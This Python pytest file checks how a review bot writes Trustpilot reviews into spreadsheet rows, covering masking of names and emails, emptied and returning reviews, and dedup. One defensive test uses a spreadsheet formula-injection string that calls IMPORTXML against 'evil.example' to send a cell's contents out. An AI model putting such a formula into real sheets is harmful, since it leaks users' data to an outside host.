"""Promises of the Reviews tab's rows: what is shown, what stays hidden, what comes back."""

from datetime import timedelta

import pytest

from other_jobs import ASKING, FOLLOWING_UP, SUGGESTING
from review_tabs import NOW, REVIEWS, Tabs, a_review, an_id
from sheets_bot.domain.reviews.review import Reply
from sheets_bot.domain.reviews.review_rows import CAME_BACK
from sheets_bot.sheets.cells import writer

MATCHING = {"order", "match", "match_why"}


def test_a_review_fills_every_column_of_the_bots_but_those_of_the_match():
    review = a_review(
        reply=Reply("Sorry!", NOW),
        updated_at=NOW,
        email="jane@mail.example",
        reference="1042",
        invited=True,
        may_be_asked=True,
        asked_at=NOW,
    )

    (row,) = Tabs().look(review).reviews

    others = MATCHING | ASKING | FOLLOWING_UP | SUGGESTING | {"claim_check"}
    assert set(row.values) == set(REVIEWS.bot_names) - others
    assert row.key == an_id(1)


def test_the_reviewer_is_masked_and_the_address_is_only_a_mark():
    (row,) = Tabs().look(a_review(email="jane@mail.example", display_name="Jane Doe")).reviews

    shown = " ".join(str(value) for value in row.values.values())
    assert row.values["reviewer"] == "Jane D."
    assert "Doe" not in shown
    assert "mail.example" not in shown
    assert len(row.values["contact"]) == len(row.values["name_mark"]) == 12


def test_fault_27_a_review_that_looks_like_a_formula_stands_there_as_text():
    text = '=IMPORTXML("https://evil.example/"&A1, "//a")'

    (row,) = Tabs().look(a_review(title="+1", text=text, display_name="=HYPERLINK(1)")).reviews

    assert row.values["text"] == text
    assert writer("longtext", NOW.tzinfo)(row.values["text"]) == text
    assert row.values["reviewer"] == "H."


def test_what_the_reviewer_took_back_is_emptied_and_what_is_merely_not_told_stays():
    tabs = Tabs()
    tabs.look(a_review(email="jane@mail.example", reference="1042", reply=Reply("Sorry!", NOW)))
    before = dict(tabs.row())

    tabs.look(a_review(title="", text="", language="", display_name=""))

    row = tabs.row()
    assert (row["title"], row["text"], row["reply"], row["replied"]) == (None, None, None, None)
    assert [row[name] for name in ("language", "reviewer", "contact", "reference")] == [
        before[name] for name in ("language", "reviewer", "contact", "reference")
    ]


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"may_be_asked": True}, "yes"),
        ({"may_be_asked": False}, "no"),
        ({"may_be_asked": False, "was_asked": True}, "asked"),
        ({"may_be_asked": False, "was_asked": True, "has_told": True}, "answered"),
        ({}, None),
    ],
)
def test_whether_the_reviewer_may_be_asked_is_said(fields, words):
    (row,) = Tabs().look(a_review(**fields)).reviews

    assert row.values.get("may_ask_who") == words


def test_a_word_of_trustpilots_that_is_new_is_shown_as_it_is_and_said():
    (row,) = Tabs().look(a_review(status="Quarantined")).reviews

    assert row.values["state"] == "quarantined"
    assert "'quarantined'" in row.values["problem"]


def test_missing_stars_are_said():
    (row,) = Tabs().look(a_review(stars=None)).reviews

    assert row.values["problem"] == "The number of stars is not known; look at the review."


def test_a_review_whose_row_a_person_removed_stays_away_once_it_needs_nothing():
    tabs = Tabs()
    old = a_review(stars=5, created_at=NOW - timedelta(days=9))
    tabs.look(old)
    tabs.reviews.clear()

    tabs.look(old, seen_through={"Aurora": NOW})

    assert tabs.reviews == {}


def test_a_review_that_trustpilot_shows_late_is_not_taken_for_one_that_a_person_removed():
    tabs = Tabs()

    tabs.look(a_review(created_at=NOW - timedelta(days=9)), seen_through={"Aurora": NOW})

    assert tabs.row()["problem"] is None


def test_a_review_that_needs_an_answer_comes_back_and_says_so_until_it_is_answered():
    tabs = Tabs()
    old = a_review(created_at=NOW - timedelta(days=9))
    tabs.look(old)
    tabs.reviews.clear()

    for _ in range(2):
        tabs.look(old, seen_through={"Aurora": NOW})
        assert tabs.row()["problem"] == CAME_BACK

    tabs.look(a_review(created_at=old.created_at, reply=Reply("x", NOW)), seen_through={"Aurora": NOW})
    assert tabs.row()["problem"] is None


def test_on_the_first_run_of_a_brand_everything_is_added():
    old = a_review(stars=5, created_at=NOW - timedelta(days=9))

    (row,) = Tabs().look(old, seen_through={"Aurora": None}).reviews

    assert row.when_absent == "add"
    assert row.values["problem"] is None


def test_a_gone_review_keeps_what_it_said():
    tabs = Tabs()
    tabs.look(a_review())

    tabs.look(gone={"Aurora": [an_id(1)]})

    row = tabs.row()
    assert (row["state"], row["flag"], row["text"]) == ("gone", "CLOSED", "Three weeks and nothing.")


def test_a_gone_review_without_a_row_gets_none():
    tabs = Tabs()

    tabs.look(gone={"Aurora": [an_id(1)]})

    assert tabs.reviews == {}
    assert tabs.history == {}


def test_a_review_that_two_brands_see_counts_once():
    shaped = Tabs().look(a_review(1), a_review(1, stars=2))

    assert len(shaped.reviews) == 1
    assert shaped.reviews[0].values["stars"] == 1
